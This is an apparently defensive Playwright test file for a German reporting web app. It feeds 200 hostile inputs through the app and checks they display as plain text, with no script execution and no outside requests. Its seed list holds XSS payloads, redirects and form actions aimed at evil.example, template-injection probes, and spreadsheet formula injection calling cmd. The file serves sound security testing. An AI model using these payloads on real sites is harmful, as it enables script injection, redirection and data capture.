"""200 hostile texts in a real browser, with JavaScript off for who writes and on for who reads."""

from __future__ import annotations

import os
import random
from pathlib import Path

import pytest
from playwright.async_api import Page

from bot.concern.door import issue
from bot.concern.receipts import fresh_nonce
from bot.concern.rules import LONGEST, Concern, Topic, cleaned
from bot.concern.store import Store
from tests.concern.test_web import NOON, Site, site_of
from tests.demo.browser import AXE, browser, missing

SEEDS = (
    "<script>window.hit=1</script>",
    "<img src=x onerror='window.hit=1'>",
    "<svg/onload=window.hit=1>",
    '"><script>window.hit=1</script>',
    "</textarea><script>window.hit=1</script>",
    "</title><iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<a href='javascript:window.hit=1'>klick</a>",
    "<form action='https://evil.example'><input name=receipt></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "{{ 7*7 }} {% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    '=HYPERLINK("https://evil.example";"klick")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "\u202etxet reseid tsi sträwkcür\u202c",
    "\u2066isoliert\u2069 \u200bunsichtbar\ufeff",
    "аdmіn (kyrillisch) ｆｕｌｌｗｉｄｔｈ",
    "Z̸̢̧a̵l̶g̷o̸ " + "̷" * 200,
    "W" * LONGEST,
    "javascript:window.hit=1//",
    "&lt;script&gt;window.hit=1&lt;/script&gt; &#60;script&#62;",
    "]]><script>window.hit=1</script><![CDATA[",
)


def hostile(number: int) -> list[str]:
    """So many texts: the seeds, then two or three of them joined."""
    chance = random.Random(8)
    made = [*SEEDS]
    while len(made) < number:
        made.append(" ".join(chance.sample(SEEDS[:17], chance.choice((2, 3)))))
    return made


async def harmless(page: Page, met: list[str]) -> None:
    """Nothing ran, nothing was fetched from elsewhere, and the page stands as it should."""
    assert await page.evaluate("window.hit") is None
    assert not await page.query_selector("script, iframe, img, svg, base, link, meta[http-equiv]")
    assert await page.evaluate("getComputedStyle(document.body).display") == "block"
    assert met == []


def watched(page: Page, url: str) -> list[str]:
    """Requests to anywhere else."""
    met: list[str] = []
    page.on("request", lambda request: None if request.url.startswith(url) else met.append(request.url))
    return met


async def accessible(page: Page) -> None:
    """axe finds nothing; the page's own policy lets no script in, so it is run from outside of it."""
    await page.evaluate(AXE.read_text(encoding="utf-8"))
    found = await page.evaluate("axe.run().then((found) => found.violations.map((one) => one.id))")
    assert found == []


async def writes_by_keyboard(page: Page, site: Site, words: str) -> str:
    """Without a mouse and without JavaScript; the receipt."""
    await page.goto(f"{site.url}/sorge")
    await page.focus("#topic")
    await page.keyboard.press("Tab")
    await page.keyboard.type(words)
    await page.keyboard.press("Tab")
    await page.keyboard.press("Tab")
    await page.keyboard.press("Enter")
    return await page.inner_text(".receipt")


@pytest.mark.proof
async def test_hostile_texts_are_shown_as_text(tmp_path: Path) -> None:
    """To readers, to the holder of the receipt, and in a form that comes back; axe finds no barrier."""
    if lack := missing():
        pytest.fail(lack) if os.environ.get("CI") else pytest.skip(lack)
    texts = hostile(200)
    async with site_of(tmp_path) as site, browser() as chromium:
        plain = await chromium.new_context(java_script_enabled=False, locale="de-DE")
        page = await plain.new_page()
        receipt = await writes_by_keyboard(page, site, "Mir wird alles zu viel")

        def fill(store: Store) -> list[str]:
            return [
                store.put(fresh_nonce(), Concern(Topic.OTHER, cleaned(one), True), NOON.date())
                for one in texts
            ]

        receipts = await site.box.store(fill)
        await site.box.desk(lambda desk: desk.publish(texts[0], texts[1], NOON.date()))
        await site.released()
        reader = await chromium.new_context(locale="de-DE")
        desk = await reader.new_page()
        met = watched(desk, site.url)
        await desk.goto(f"{site.url}/lesen?link={issue(site.data, 'reader-1', NOON)}")
        await harmless(desk, met)
        shown = [await one.text_content() or "" for one in await desk.query_selector_all(".thread .words")]
        assert sorted(shown) == sorted([*map(cleaned, texts), "Mir wird alles zu viel"])
        await accessible(desk)
        for number in random.Random(8).sample(range(200), 20):
            await desk.goto(f"{site.url}/sorge/antwort")
            await desk.fill("#receipt", receipts[number])
            await desk.keyboard.press("Enter")
            await desk.wait_for_selector(".thread")
            await harmless(desk, met)
            assert await desk.text_content(".thread .words") == cleaned(texts[number])
        for path in ("/sorge", "/sorge/antwort", "/sorge/antworten"):
            await desk.goto(site.url + path)
            await harmless(desk, met)
            await accessible(desk)
        await desk.goto(f"{site.url}/sorge?sprache=%22%3E%3Cscript%3Ewindow.hit=1%3C/script%3E")
        await harmless(desk, met)
        await page.goto(f"{site.url}/sorge/antwort")
        await page.fill("#receipt", receipt)
        await page.keyboard.press("Enter")
        assert await page.inner_text(".thread .words") == "Mir wird alles zu viel"
        assert await plain.cookies() == []


@pytest.mark.proof
async def test_who_comes_next_at_the_browser_reads_nothing_by_going_back(tmp_path: Path) -> None:
    """Neither what was sent nor the receipt stands in a form that Back leads to."""
    if lack := missing():
        pytest.fail(lack) if os.environ.get("CI") else pytest.skip(lack)
    async with site_of(tmp_path) as site, browser() as chromium:
        page = await (await chromium.new_context(java_script_enabled=False, locale="de-DE")).new_page()
        receipt = await writes_by_keyboard(page, site, "Mir wird alles zu viel")
        await page.go_back()
        assert await page.input_value("#words") == ""
        await page.goto(f"{site.url}/sorge/antwort")
        await page.fill("#receipt", receipt)
        await page.keyboard.press("Enter")
        await page.wait_for_selector(".thread")
        await page.go_back()
        assert await page.input_value("#receipt") == ""
